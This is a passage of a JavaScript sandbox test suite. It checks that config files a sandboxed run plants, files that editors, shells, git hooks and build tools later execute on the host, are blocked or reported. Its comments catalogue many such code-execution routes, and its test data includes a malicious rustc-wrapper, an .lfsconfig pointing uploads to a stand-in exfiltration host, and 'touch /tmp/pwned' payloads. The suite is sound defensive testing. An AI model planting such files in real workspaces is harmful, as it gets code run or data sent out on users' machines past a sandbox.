      const changed = await sh(`printf '%s' ${q(LSP_JSON)} 1<> lsp.json`, { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      assert.equal(changed.exitCode, 0, show(changed))
      assert.ok(riskFor(changed.hostRisks, tree.ws, 'lsp.json'), JSON.stringify(changed.hostRisks))
    })
  }

  test('review: a risk of the change set, held back by apply', async (t) => {
    const tree = tempTree(t)
    const r = await sandspawn.spawnSandboxed(['sh', '-c', `printf '%s' ${q(LSP_JSON)} > lsp.json; echo x > notes.txt`], { cwd: tree.ws, timeout: 60000, sandbox: { mode: 'workspace-write', workspace: 'review' } })
    assert.ok(r.changeSet, show(r))
    assert.ok(riskFor(r.changeSet.hostRisks, tree.ws, 'lsp.json'), JSON.stringify(r.changeSet.hostRisks))
    const res = await sandspawn.applyChangeSet(r.changeSet.id, {})
    assert.equal(fs.existsSync(path.join(tree.ws, 'lsp.json')), false, `lsp.json landed: ${JSON.stringify(res)}`)
    assert.equal(fs.readFileSync(path.join(tree.ws, 'notes.txt'), 'utf8'), 'x\n', JSON.stringify(res))
  })
})

// Found by an attacker's review (host33): editor-independent configuration of language servers
// that names commands run when an editor opens the folder. rust-analyzer reads a workspace's
// `rust-analyzer.toml` (its "workspace" settings: `cargo.buildScripts.overrideCommand` runs at
// once when the folder opens, `check.overrideCommand` on each save, `cargo.extraEnv`), the same
// settings `.vscode/settings.json` gives it under `rust-analyzer.*`; neoconf.nvim hands a
// project's `.neoconf.json` (`lspconfig.<server>` settings, `rust-analyzer.check.overrideCommand`
// there too) to every language server Neovim starts. `.vscode`, `.zed` and `.helix` are protected
// names; these two had hostRisks [] and review's apply landed them. (Neither tool is installed on
// this machine: read from rust-analyzer's config.rs, the `workspace` group, and neoconf's README.)
const LSP_CONFIGS = ['rust-analyzer.toml', 'repo/rust-analyzer.toml', '.neoconf.json', 'repo/.neoconf.json']

describe("host33: rust-analyzer.toml and neoconf's .neoconf.json", () => {
  for (const [mode, extra] of Object.entries(MODES)) {
    test(`${mode}: kept absent at a top and reported`, async (t) => {
      const tree = tempTree(t)
      execFileSync('git', ['init', '-q', path.join(tree.ws, 'repo')])
      const r = await sh(plant(LSP_CONFIGS), { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      for (const rel of LSP_CONFIGS) {
        assert.equal(fs.existsSync(path.join(tree.ws, rel)), false, `${rel} stayed\n${JSON.stringify(r.hostRisks)}`)
        const refused = r.stderr.includes(`${rel}: Permission denied`)
        assert.ok(riskFor(r.hostRisks, tree.ws, rel) || (mode === 'landlock' && refused), `${rel}: ${JSON.stringify(r.hostRisks)}\n${show(r)}`)
      }
    })
  }

  test('review: a risk of the change set, held back by apply', async (t) => {
    const tree = tempTree(t)
    const rels = ['rust-analyzer.toml', 'sub/rust-analyzer.toml', '.neoconf.json']
    const r = await sandspawn.spawnSandboxed(['sh', '-c', plant(rels)], { cwd: tree.ws, timeout: 60000, sandbox: { mode: 'workspace-write', workspace: 'review' } })
    assert.ok(r.changeSet, show(r))
    for (const rel of rels) assert.ok(riskFor(r.changeSet.hostRisks, tree.ws, rel), `${rel}: ${JSON.stringify(r.changeSet.hostRisks)}`)
    await sandspawn.applyChangeSet(r.changeSet.id, {})
    for (const rel of ['rust-analyzer.toml', '.neoconf.json']) assert.equal(fs.existsSync(path.join(tree.ws, rel)), false, `${rel} landed`)
  })
})

// Found by the fixer (fix34), attacking host33's .cargo programs: a file inside a protected
// directory at a top that is a symlink out of it (a project sharing `.cargo/config.toml ->
// ../cfg/cargo.toml`, `.vscode/settings.json -> ../cfg/settings.json`, `.vscode/tasks.json` to a
// file not there yet) was read-only as the link only: the directory is mounted read-only, the
// kernel follows the link to the writable root, and a default run wrote a `rustc-wrapper` into
// cfg/cargo.toml (the host's next `cargo metadata` ran it) and VS Code settings, hostRisks [],
// while the same link as the top's own name (`.npmrc -> cfg/npmrc`) has its target kept read-only.
for (const [mode, extra] of Object.entries(MODES)) {
  test(`${mode}: a file a protected directory's symlink leads to elsewhere in the workspace cannot be rewritten unsaid`, async (t) => {
    const tree = tempTree(t, { git: true })
    const ws = (p) => path.join(tree.ws, p)
    fs.mkdirSync(ws('.cargo'))
    fs.mkdirSync(ws('.vscode'))
    fs.mkdirSync(ws('cfg'))
    fs.mkdirSync(ws('cfg/later'))
    fs.writeFileSync(ws('cfg/cargo.toml'), '[build]\njobs = 2\n')
    fs.writeFileSync(ws('cfg/settings.json'), '{}\n')
    fs.symlinkSync('../cfg/cargo.toml', ws('.cargo/config.toml'))
    fs.symlinkSync(ws('cfg/settings.json'), ws('.vscode/settings.json'))
    fs.symlinkSync('../cfg/later/tasks.json', ws('.vscode/tasks.json'))
    const script = `printf '[build]\\nrustc-wrapper = "/x/evil"\\n' > cfg/cargo.toml; echo '{"evil":1}' > cfg/settings.json; echo '{"evil":1}' > cfg/later/tasks.json; true`
    const r = await sh(script, { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
    assert.equal(r.exitCode, 0, show(r))
    const before = { 'cfg/cargo.toml': '[build]\njobs = 2\n', 'cfg/settings.json': '{}\n', 'cfg/later/tasks.json': null }
    for (const [rel, was] of Object.entries(before)) {
      const now = fs.existsSync(ws(rel)) ? fs.readFileSync(ws(rel), 'utf8') : null
      const said = r.hostRisks.some((h) => h.path === ws(rel) || ws(rel).startsWith(h.path + '/'))
      assert.ok(now === was || said, `${rel} rewritten with nothing said: ${JSON.stringify(r.hostRisks)}\n${show(r)}`)
    }
  })
}

// The same in review mode (fix34): a change set that rewrote the file a top's
// .cargo/config.toml links to had no risk, and apply landed it.
test("review: a change set that rewrites the file a protected directory's symlink leads to is a risk, held back by apply", async (t) => {
  const tree = tempTree(t, { git: true })
  const ws = (p) => path.join(tree.ws, p)
  fs.mkdirSync(ws('.cargo'))
  fs.mkdirSync(ws('cfg'))
  fs.writeFileSync(ws('cfg/cargo.toml'), '[build]\njobs = 2\n')
  fs.symlinkSync('../cfg/cargo.toml', ws('.cargo/config.toml'))
  const r = await sandspawn.spawnSandboxed(['sh', '-c', `printf '[build]\\nrustc-wrapper = "/x/evil"\\n' > cfg/cargo.toml; echo ok > lib.txt`], { cwd: tree.ws, timeout: 60000, sandbox: { mode: 'workspace-write', workspace: 'review' } })
  assert.ok(r.changeSet, show(r))
  assert.ok(r.changeSet.hostRisks.some((h) => h.path === ws('cfg/cargo.toml')), JSON.stringify(r.changeSet.hostRisks))
  await sandspawn.applyChangeSet(r.changeSet.id, {})
  assert.equal(fs.readFileSync(ws('cfg/cargo.toml'), 'utf8'), '[build]\njobs = 2\n', 'the linked cargo configuration landed')
  assert.equal(fs.readFileSync(ws('lib.txt'), 'utf8'), 'ok\n', 'the rest of the set landed')
})

// Found by an attacker's review (hostb36): git-lfs reads `.lfsconfig` at a repository's top (the
// working tree's, whatever git's own configuration says) on every git-lfs command and on the
// pre-push hook `git lfs install` sets: its safelisted `lfs.url`, `lfs.pushurl` and
// `remote.<name>.lfsurl` name the server the host's next `git push` uploads the repository's LFS
// objects to (with `.gitattributes` marking any file `filter=lfs`, its content too), an address the
// run's network policy never saw. A run planted it with `hostRisks: []`; commands write it
// legitimately (`git config -f .lfsconfig lfs.url ...`): reported, not kept.
const LFS_REPORTED = ['.lfsconfig', 'sub/.lfsconfig']

describe("hostb36: git-lfs's .lfsconfig a run plants", () => {
  for (const [mode, extra] of Object.entries(MODES)) {
    test(`${mode}: created or changed in place, it is reported`, async (t) => {
      const tree = tempTree(t)
      const cfg = '[lfs]\n\turl = https://exfil.invalid/lfs\n'
      const r = await sh(`mkdir -p sub && printf '%s' ${q(cfg)} > .lfsconfig && cp .lfsconfig sub/`, { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      assert.equal(r.exitCode, 0, show(r))
      assertKeptAndReported(r, tree.ws, [], LFS_REPORTED)
      assert.equal(fs.readFileSync(path.join(tree.ws, '.lfsconfig'), 'utf8'), cfg, 'reported, not kept')
      const changed = await sh(`printf '%s' ${q('[lfs]\n\tpushurl = https://other.invalid/lfs\n')} 1<> .lfsconfig`, { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      assert.equal(changed.exitCode, 0, show(changed))
      assert.ok(riskFor(changed.hostRisks, tree.ws, '.lfsconfig'), JSON.stringify(changed.hostRisks))
    })
  }

  test('review: a risk of the change set, held back by apply', (t) => assertHeldBackInReview(t, LFS_REPORTED))
})

// Found by an attacker's review (hostb38), each planted with `hostRisks: []` in every mode (review's
// apply landed it): what a shell's directory hooks run when the user `cd`s into the workspace.
// proto's shell activation (`eval "$(proto activate zsh)"`, moonrepo's documented setup) runs
// `proto activate --export` at every change of directory and evals what it prints: the `[env]`
// variables (and a dotenv `file`) and `[shell] aliases` of `.prototools` in the cwd and every
// parent (crates/cli/src/commands/activate.rs, ConfigMode::Upwards), with no trust step at all:
// `[env] PS1 = "$(./x.sh)"` (bash expands a command substitution in PS1 by default) or an alias of
// `ls` runs the workspace's code at the next prompt. `proto pin` writes the file: reported.
// Shopify's shadowenv runs each `.shadowenv.d/*.lisp` on entering a directory it trusts, and the
// trust is a signature of the directory's path, not of the code ("allowing any code within them
// to be run"): a rewritten one runs unasked; `dev up` writes them: reported. zsh-autoenv sources
// `.autoenv.zsh` on entering (and `.autoenv_leave.zsh` on leaving) the nearest directory holding
// one, up to `/`, once its checksum is authorized, as direnv does the `.envrc`: kept as the
// `.envrc` is. autoenv's leave file `.env.leave` beside its `.env` (reported): reported.
const HOSTB38_KEPT = ['.autoenv.zsh', '.autoenv_leave.zsh']
const HOSTB38_REPORTED = ['.prototools', 'sub/.prototools', '.shadowenv.d/500_env.lisp', 'sub/.shadowenv.d/500_env.lisp', '.env.leave', 'sub/.autoenv.zsh']

/** A suite planting `kept` and `reported` in every mode (kept absent or reported) and in review. */
function describeKeptAndReported(title, kept, reported) {
  describe(title, () => {
    for (const [mode, extra] of Object.entries(MODES)) {
      test(`${mode}: each is kept absent or reported`, async (t) => {
        const tree = tempTree(t)
        const r = await sh(plant([...kept, ...reported]), { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
        assert.equal(r.exitCode, 0, show(r))
        assertKeptAndReported(r, tree.ws, kept, reported)
      })
    }

    test('review: each is a risk of the change set and held back by apply', async (t) => {
      await assertHeldBackInReview(t, [...kept, ...reported])
    })
  })
}

describeKeptAndReported('hostb38: what shells run on cd (proto, shadowenv, zsh-autoenv, autoenv)', HOSTB38_KEPT, HOSTB38_REPORTED)

// Found by an attacker's review (hostb39), each planted with `hostRisks: []` in every mode (review's
// apply landed it): pkgx's `dev`. Its shellcode (`eval "$(dev --shellcode)"`, `dev integrate`)
// hooks every `cd` and, in a directory the user once ran `dev` in (or below it: the hook walks up
// to `/` for its `dev.pkgx.activated` mark), evals what `dev` prints: the `env` of the
// directory's `pkgx.yaml`, `pkgx.yml`, `.pkgx.yaml` or `.pkgx.yml` (pkgxdev/dev sniff.ts,
// exported with no trust step of the file; `$(` is refused there, but `PROMPT_COMMAND: ./x.sh`,
// a backquoted `PS1` or `BASH_ENV` are not), so the run's code runs at the next prompt. The
// project writes the file (dependencies): reported, as proto's `.prototools` is.
const HOSTB39_REPORTED = ['pkgx.yaml', 'pkgx.yml', '.pkgx.yaml', '.pkgx.yml', 'sub/pkgx.yaml']

describe("hostb39: what pkgx's dev exports on cd", () => {
  for (const [mode, extra] of Object.entries(MODES)) {
    test(`${mode}: each is reported`, async (t) => {
      const tree = tempTree(t)
      const r = await sh(plant(HOSTB39_REPORTED), { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      assert.equal(r.exitCode, 0, show(r))
      assertKeptAndReported(r, tree.ws, [], HOSTB39_REPORTED)
    })
  }

  test('review: each is a risk of the change set and held back by apply', async (t) => {
    await assertHeldBackInReview(t, HOSTB39_REPORTED)
  })
})

// Found by an attacker's review (host40), each planted with `hostRisks: []` in every mode (review's
// apply landed it): the dev environments a shell's directory hook builds and evals on `cd`, beside
// nix-direnv's flake.nix (fix33). devenv's `use devenv` (the `.envrc` `devenv init` writes) watches
// devenv.nix, devenv.yaml (its `imports`), devenv.lock and the local overrides, and when one
// changes builds the shell again and evals it, its `enterShell` included, in the host's shell at
// the next prompt; devbox's `.envrc` (`devbox generate direnv`) runs `devbox shellenv --init-hook`
// on each change of devbox.json (its `init_hook`, `env`) or devbox.lock; a direnv-activated Flox
// environment sources the `[hook] on-activate` and `[profile]` of `.flox/env/manifest.toml`.
// Hermit's shell hooks (`hermit shell-hooks`) source `bin/activate-hermit` on entering a
// directory that holds one (its text checked against Hermit's known sums only, so a copy of a
// genuine one is a new environment), which exports `bin/hermit.hcl`'s `env` (PROMPT_COMMAND) and
// puts that `bin` first on PATH. The projects write all of them: reported, as flake.nix is.
const HOST40_REPORTED = ['devenv.nix', 'devenv.yaml', 'devenv.lock', 'devenv.local.nix', 'devenv.local.yaml', 'devbox.json', 'devbox.lock', 'sub/devbox.json', '.flox/env/manifest.toml', 'bin/hermit.hcl', 'sub/bin/activate-hermit']

describe('host40: the dev environments shells build and eval on cd (devenv, devbox, Flox, Hermit)', () => {
  for (const [mode, extra] of Object.entries(MODES)) {
    test(`${mode}: each is reported`, async (t) => {
      const tree = tempTree(t)
      const r = await sh(plant(HOST40_REPORTED), { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      assert.equal(r.exitCode, 0, show(r))
      assertKeptAndReported(r, tree.ws, [], HOST40_REPORTED)
    })
  }

  test('review: each is a risk of the change set and held back by apply', async (t) => {
    await assertHeldBackInReview(t, HOST40_REPORTED)
  })
})

// Found by an attacker's review (host41; left open by host40), each planted with `hostRisks: []` in
// every mode (review's apply landed it): a conda environment's activation files, which `conda
// activate`, `pixi shell`, every `pixi run` and `pixi shell-hook` (an `.envrc`'s, at each cd)
// source or export in the host's shell (`etc/conda/activate.d/*`, `deactivate.d/*`,
// `env_vars.d/*.json`, `conda-meta/state`'s `env_vars`), in pixi's `.pixi/envs/default` and VS
// Code's `.conda`; and Sublime Text's `*.sublime-project` (its LSP settings' servers start as a file
// of the opened project opens). Packages and Sublime write them: reported, as `.pth` files and
// `*.code-workspace` are. And darcs' `_darcs` (its `prefs/defaults` sets a posthook of any command
// and `run-posthook`, which runs it unasked): kept absent at the top, as `.hg` is.
const HOST41_KEPT = ['_darcs/prefs/defaults']
const HOST41_REPORTED = ['.pixi/envs/default/etc/conda/activate.d/evil.sh', '.pixi/envs/default/etc/conda/deactivate.d/evil.sh', '.pixi/envs/default/etc/conda/env_vars.d/x.json', '.pixi/envs/default/conda-meta/state', '.conda/etc/conda/activate.d/e.sh', 'proj.sublime-project', 'sub/x.sublime-project']

function condaEnv(ws) {
  fs.mkdirSync(path.join(ws, '.pixi/envs/default/conda-meta'), { recursive: true })
  fs.mkdirSync(path.join(ws, '.pixi/envs/default/etc/conda/activate.d'), { recursive: true })
  fs.writeFileSync(path.join(ws, '.pixi/envs/default/etc/conda/activate.d/libfoo.sh'), 'export FOO=1\n')
}

describe('host41: a conda environment\'s activation files, Sublime Text project files and darcs\' _darcs', () => {
  for (const [mode, extra] of Object.entries(MODES)) {
    test(`${mode}: each is reported, and an activation script changed in place too`, async (t) => {
      const tree = tempTree(t)
      condaEnv(tree.ws)
      const r = await sh(plant(HOST41_REPORTED), { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      assert.equal(r.exitCode, 0, show(r))
      assertKeptAndReported(r, tree.ws, [], HOST41_REPORTED)
      // A darcs repository's directory at the top is kept absent, as `.hg` is.
      const darcs = await sh(plant(HOST41_KEPT), { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      assertKeptAndReported(darcs, tree.ws, HOST41_KEPT)
      const inPlace = await sh('echo "touch /tmp/pwned" >> .pixi/envs/default/etc/conda/activate.d/libfoo.sh', { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      assert.equal(inPlace.exitCode, 0, show(inPlace))
      assertKeptAndReported(inPlace, tree.ws, [], ['.pixi/envs/default/etc/conda/activate.d/libfoo.sh'])
      // The environment's other files are the packages': no risk.
      const quiet = await sh('mkdir -p .pixi/envs/default/lib && echo x > .pixi/envs/default/lib/libfoo.so && echo x > .pixi/envs/default/conda-meta/history', { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      assert.deepEqual(quiet.hostRisks, [], show(quiet))
    })
  }

  test('review: each is a risk of the change set and held back by apply', async (t) => {
    await assertHeldBackInReview(t, [...HOST41_REPORTED, ...HOST41_KEPT])
  })
})

// Found by an attacker's review (hostc41; left open by host41), each planted with `hostRisks: []`
// in every mode (review's apply landed it): Perl's `.proverc` (prove reads the cwd's on every run:
// `--exec` names the program each test runs with, `-P` loads a plugin into prove itself), kept as
// sbt's `.sbtrc` is; Eclipse's `.project` (its buildSpec's builders run on each build, auto-build
// on by default) and the external tool builders' launch files it names in
// `.externalToolBuilders` (their program and arguments), and Kate's `.kateproject` (its
// `lspclient` servers, its build targets), reported: the IDEs write them. And a Fossil checkout's
// database (`.fslckout`, `_FOSSIL_`): it names the repository whose hooks and settings' programs
// (editor, gdiff-command) Fossil runs; kept absent, as `.hg` is.
const HOSTC41_KEPT = ['.proverc', '.fslckout', '_FOSSIL_']
const HOSTC41_REPORTED = ['sub/.proverc', '.project', '.externalToolBuilders/run.launch', 'sub/.kateproject', '.kateproject']

describeKeptAndReported("hostc41: prove's .proverc, Fossil's checkout database, Eclipse's builders and Kate's project file", HOSTC41_KEPT, HOSTC41_REPORTED)

// Found by an attacker's review (host42), planted with `hostRisks: []` in every mode (review's apply
// landed it): lazygit loads, beside its own config and `<repo>/.git/lazygit.yml`, "files called
// `.lazygit.yml` in any of the parent directories of a repo" (its docs/Config.md), over the user's
// config: `git.paging.pager` runs on every diff it shows (one shows as soon as it starts in a
// repository with a changed file), `os.edit` and `customCommands` on their keys. A workspace
// holding repositories (a checkout's submodules, `~/code` with many) is their parent, and so is
// every directory above a nested workspace; a command has no need to write it: kept, as `.proverc` is.
const HOST42_KEPT = ['.lazygit.yml']
const HOST42_REPORTED = ['sub/.lazygit.yml']

describeKeptAndReported("host42: lazygit's .lazygit.yml (the pager and commands of every repository below it)", HOST42_KEPT, HOST42_REPORTED)

// Found by the same review (host42), each planted with `hostRisks: []` in every mode (review's apply
// landed it). An opam local switch `_opam`: `opam env` (run at every prompt by opam's shell hook,
// or by hand as `eval $(opam env)`) and `opam exec` select the one of the cwd or the nearest parent
// whose `.opam-switch/switch-config` names the user's opam root, export the variables of its
// `.opam-switch/environment` as they are written there and put its `bin` first on PATH (a
// `_opam/bin/git` runs at the next `git`); kept above a workspace already, and reported in one as
// a conda environment's activation is (`opam switch create .` writes it). gitlint's `.gitlint`
// (read from the cwd by the commit-msg hook `gitlint install-hook` writes, on every `git commit`):
// `extra-path` names Python it imports; reported as lint-staged's configuration is.
const HOST42_OPAM_REPORTED = ['_opam/.opam-switch/environment', 'sub/_opam/bin/git', '.gitlint', 'sub/.gitlint']

describeKeptAndReported("host42: opam's local switch and gitlint's configuration", [], HOST42_OPAM_REPORTED)

// Found by an attacker's review (host43), each planted with `hostRisks: []` in every mode (review's
// apply landed it): what the hook managers beside pre-commit and lefthook run on the host's next
// `git commit`. prek (a pre-commit in Rust) reads `prek.toml` first, then `.pre-commit-config.yaml`,
// then `.pre-commit-config.yml` (prek.j178.dev, "Choose a config file"), and the hook `prek install`
// writes names no config ("let prek find it", crates/prek/src/cli/install.rs: unlike pre-commit's
// `--config=.pre-commit-config.yaml`), so a `prek.toml` beside the reported YAML silently takes its
// place; a `repo: local` hook's `entry` is any command. CaptainHook's hooks (installed by its
// Composer plugin after every `composer install`) run the `action` commands of `captainhook.json`;
// GrumPHP's run its tasks (`shell` runs scripts) from `grumphp.yml`, `grumphp.yaml`,
// `grumphp.yml.dist` or `grumphp.yaml.dist` (GuessedPathsLocator). Trunk's hooks (installed by
// itself when an action names a git hook) and its daemon (started by its editor extension as the
// folder opens: file-change and scheduled triggers) run the `run` commands of the actions
// `.trunk/trunk.yaml` (and the user's `.trunk/user.yaml`) define. Written by the tools
// (`prek util yaml-to-toml`, `captainhook configure`, `grumphp configure`, `trunk init` and
// `trunk upgrade`): reported, as lefthook's are.
const HOST43_REPORTED = [
  'prek.toml',
  '.pre-commit-config.yml',
  'sub/prek.toml',
  'captainhook.json',
  'grumphp.yml',
  'grumphp.yaml',
  'grumphp.yml.dist',
  'grumphp.yaml.dist',
  '.trunk/trunk.yaml',
  '.trunk/user.yaml',
  'sub/.trunk/trunk.yaml',
]

describeKeptAndReported('host43: the git-hook managers prek, CaptainHook, GrumPHP and Trunk', [], HOST43_REPORTED)

// The same review (host43), planted with `hostRisks: []` in every mode: the Lua language server
// takes `.luarc.jsonc` where there is no `.luarc.json` (script/provider/provider.lua:
// `loadRCConfig(folder.uri, '.luarc.json') or loadRCConfig(folder.uri, '.luarc.jsonc')`), and runs
// its `runtime.plugin` as the folder opens, as for `.luarc.json` (reported, host25).
const HOST43_LUARC_REPORTED = ['.luarc.jsonc', 'sub/.luarc.jsonc']

describeKeptAndReported("host43: the Lua language server's .luarc.jsonc", [], HOST43_LUARC_REPORTED)

// Found by an attacker's review (rev44) of host43's patterns: a pattern matched by its parent's
// name (`.trunk/trunk.yaml`, Hermit's `bin/hermit.hcl`, bazelisk's `tools/bazel`) was not matched
// when that parent is a symlink the run made to a directory of its own (the walk follows no link,
// and the file's own parent is named otherwise), though Trunk, Hermit's hooks and bazelisk read
// through it all the same: `ln -s tmeta .trunk` with `tmeta/trunk.yaml` had `hostRisks: []` in
// both modes, as `.github` and `.direnv` links had before (rfix23b, host32).
const PATTERN_LINKS = [
  { rel: '.trunk/trunk.yaml', link: '.trunk', target: 'tmeta' },
  { rel: 'sub/.trunk/user.yaml', link: 'sub/.trunk', target: 'sub/tmeta' },
  { rel: 'bin/hermit.hcl', link: 'bin', target: 'hbin' },
  { rel: 'tools/bazel', link: 'tools', target: 'tl' },
]

describe('rev44: a parent of a pattern made a symlink (.trunk, bin, tools)', () => {
  for (const [mode, extra] of Object.entries(MODES)) {
    test(`${mode}: each link is reported`, async (t) => {
      const tree = tempTree(t)
      const r = await sh(plantLinked(PATTERN_LINKS), { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      assert.equal(r.exitCode, 0, show(r))
      for (const l of PATTERN_LINKS) {
        assert.ok(r.stdout.includes(`linked:${l.link}\n`), show(r))
        assert.ok(linkedRisk(r.hostRisks, tree.ws, l), `${l.link}: ${JSON.stringify(r.hostRisks)}`)
      }
    })
  }

  test('review: each link is a risk of the change set and held back by apply', async (t) => {
    const tree = tempTree(t)
    const r = await sandspawn.spawnSandboxed(['sh', '-c', plantLinked(PATTERN_LINKS)], { cwd: tree.ws, timeout: 60000, sandbox: { mode: 'workspace-write', workspace: 'review' } })
    assert.ok(r.changeSet, show(r))
    for (const l of PATTERN_LINKS) assert.ok(linkedRisk(r.changeSet.hostRisks, tree.ws, l), `${l.link}: ${JSON.stringify(r.changeSet.hostRisks)}`)
    await sandspawn.applyChangeSet(r.changeSet.id, {})
    for (const l of PATTERN_LINKS) assert.equal(fs.existsSync(path.join(tree.ws, l.rel)), false, `${l.rel} landed`)
  })
})

// Found by an attacker's review (host44), each planted with `hostRisks: []` in every mode (review's
// apply landed it): configuration that a language server or a shell hook reads of the workspace
// by itself and that names what it runs. sourcekit-lsp takes a workspace folder's
// `buildServer.json` (where `.bsp` holds no `*.json`: ExternalBuildSystemAdapter.getConfigPath)
// and starts its `argv` (argv[0] from the folder) as the folder opens, as it does `.bsp`'s
// (reported); its `.sourcekit-lsp/config.json` hands `clangdOptions` to the clangd it starts
// (`--query-driver=**` has clangd run the compiler a compilation database names) and compiler
// flags to sourcekitd (`-load-plugin-executable` runs a macro plugin as a file is type-checked).
// OmniSharp loads the workspace's `omnisharp.json` as it starts (Startup: the target directory's,
// after the global one): it loads every assembly of `RoslynExtensionsOptions.LocationPaths` and
// `Plugins.LocationPaths` into the server, and runs the `dotnet` of `DotNetCli.LocationPaths`.
// nix-direnv's `use flake` watches `devshell.toml` beside `flake.nix` and `flake.lock`
// (direnvrc: files_to_watch), so numtide devshell's TOML, whose `[devshell.startup]` text runs in
// the host's shell, is rebuilt and evaluated at the next prompt, as `flake.nix` (reported) is.
// The tools and their users write them (xcode-build-server config, devshell init): reported.
const HOST44_FILES = ['buildServer.json', 'omnisharp.json', 'devshell.toml']
const HOST44_REPORTED = [...HOST44_FILES, '.sourcekit-lsp/config.json', ...HOST44_FILES.map((n) => `sub/${n}`)]

describeKeptAndReported("host44: sourcekit-lsp's build server and configuration, OmniSharp's, devshell's", [], HOST44_REPORTED)

// The same review (host44): nlsp-settings.nvim hands each language server Neovim starts the
// settings of the project's `.nlsp-settings/<server>.json` (its default `local_settings_dir`,
// found from the root markers, `.git`), as neoconf.nvim hands `.neoconf.json`'s (protected,
// host33): `rust-analyzer.cargo.buildScripts.overrideCommand` there runs as the folder opens.
// Planted with `hostRisks: []` at a top and below it, and review's apply landed it.
const NLSP = ['.nlsp-settings/rust_analyzer.json', 'repo/.nlsp-settings/rust_analyzer.json']

// Whether mkdir said it was refused `dir`, in either locale's quotes.
const mkdirRefused = (stderr, dir) => [`‘${dir}’`, `'${dir}'`].some((quoted) => stderr.includes(`${quoted}: Permission denied`))

describe("host44: nlsp-settings.nvim's .nlsp-settings", () => {
  for (const [mode, extra] of Object.entries(MODES)) {
    test(`${mode}: kept absent at a top and reported`, async (t) => {
      const tree = tempTree(t)
      execFileSync('git', ['init', '-q', path.join(tree.ws, 'repo')])
      // mkdir's refusal is kept on stderr (plant hides it): the Landlock mode refuses the directory.
      const planting = [...NLSP, 'sub/.nlsp-settings/clangd.json'].map((rel) => `mkdir -p ${q(path.dirname(rel))}; echo planted > ${q(rel)}`).join('; ') + '; true'
      const r = await sh(planting, { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      for (const rel of NLSP) {
        assert.equal(fs.existsSync(path.join(tree.ws, rel)), false, `${rel} stayed\n${JSON.stringify(r.hostRisks)}`)
        // Landlock refuses the directory's creation (mkdir's message quotes it as ‘name’ in a
        // UTF-8 locale, as 'name' in the C locale: CI's pass as an ordinary user has the latter).
        const refused = mkdirRefused(r.stderr, path.dirname(rel))
        assert.ok(riskFor(r.hostRisks, tree.ws, rel) || (mode === 'landlock' && refused), `${rel}: ${JSON.stringify(r.hostRisks)}\n${show(r)}`)
      }
      const below = 'sub/.nlsp-settings/clangd.json'
      const belowRefused = !fs.existsSync(path.join(tree.ws, below)) && mkdirRefused(r.stderr, 'sub')
      assert.ok(riskFor(r.hostRisks, tree.ws, below) || (mode === 'landlock' && belowRefused), `${below}: ${JSON.stringify(r.hostRisks)}\n${show(r)}`)
    })
  }

  test('review: a risk of the change set, held back by apply', async (t) => {
    await assertHeldBackInReview(t, ['.nlsp-settings/rust_analyzer.json', 'sub/.nlsp-settings/clangd.json'])
  })
})

// The same review (host44): terraform-ls (the Terraform extension's language server; OpenTofu's
// tofu-ls alike) runs `terraform providers schema -json` in each root module it opens, the first
// time and whenever `.terraform.lock.hcl` changes (jobs.ObtainSchema: "it will run whenever we
// open a root module for the first time"), and Terraform starts every provider binary installed in
// the module's `.terraform/providers` to ask its schema, once the binary's hash matches the lock
// file, which the run writes as well. Planted with `hostRisks: []`, created or rewritten in place.
const TF_PROVIDER = '.terraform/providers/registry.terraform.io/hashicorp/null/3.2.0/linux_amd64/terraform-provider-null_v3.2.0_x5'

describe("host44: Terraform's .terraform (the provider binaries terraform-ls has Terraform start)", () => {
  for (const [mode, extra] of Object.entries(MODES)) {
    test(`${mode}: created, or a provider rewritten in place, it is reported`, async (t) => {
      const tree = tempTree(t)
      const made = await sh(plant([TF_PROVIDER, `sub/${TF_PROVIDER}`]), { cwd: tree.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      assert.equal(made.exitCode, 0, show(made))
      assertKeptAndReported(made, tree.ws, [], [TF_PROVIDER, `sub/${TF_PROVIDER}`])
      const existing = tempTree(t)
      fs.mkdirSync(path.dirname(path.join(existing.ws, TF_PROVIDER)), { recursive: true })
      fs.writeFileSync(path.join(existing.ws, TF_PROVIDER), '#!/bin/sh\n')
      const r = await sh(`echo 'touch /var/tmp/w' >> ${q(TF_PROVIDER)}`, { cwd: existing.ws, sandbox: { mode: 'workspace-write' }, ...extra })
      assert.equal(r.exitCode, 0, show(r))
      assert.ok(riskFor(r.hostRisks, existing.ws, TF_PROVIDER), JSON.stringify(r.hostRisks))
    })
  }

  test('review: a risk of the change set, held back by apply', async (t) => {
    await assertHeldBackInReview(t, [TF_PROVIDER])
  })
})

// The same review (host44): pixi's activation. `pixi shell-hook` (pixi's direnv integration,
// `eval "$(pixi shell-hook)"` in an allowed `.envrc`, at each load) and every `pixi run` and
// `pixi shell` source the scripts `pixi.toml`'s `[activation] scripts` names (get_activator joins
// each to the workspace's root) and export its `[activation.env]`, as devbox runs `devbox.json`'s
// `init_hook` (reported, host40); the project-local `.pixi/config.toml` is merged over the user's
// configuration (its `mirrors` choose where the next install's packages, and their activation
// scripts, come from; `run-post-link-scripts` runs theirs). Planted with `hostRisks: []`.
const HOST44_PIXI = ['pixi.toml', 'sub/pixi.toml', '.pixi/config.toml', 'sub/.pixi/config.toml']

describeKeptAndReported("host44: pixi's manifest and its project-local configuration", [], HOST44_PIXI)

// Found by an attacker's review (host45), each planted with `hostRisks: []` in every mode (review's
// apply landed it): what direnv's own stdlib and the version managers' per-directory files have
// the host run. direnv's `use nix` runs `nix-shell` (its `shellHook`) on every load with
// `default.nix` where there is no `shell.nix`, and watches both (stdlib.sh use_nix; nix-direnv's
// `use nix` builds from and watches `default.nix` too); `use guix` evals `guix shell
